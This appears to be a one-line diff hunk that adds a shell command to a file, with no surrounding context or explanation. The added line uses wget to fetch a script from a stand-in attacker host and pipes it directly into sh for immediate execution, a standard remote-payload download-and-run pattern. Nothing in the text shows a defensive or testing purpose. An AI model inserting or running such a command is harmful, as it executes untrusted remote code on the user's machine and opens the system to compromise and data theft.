@@ -1,0 +1,1 @@
+sh -c "$(wget -qO- https://cdn.attacker.test/i.sh)"
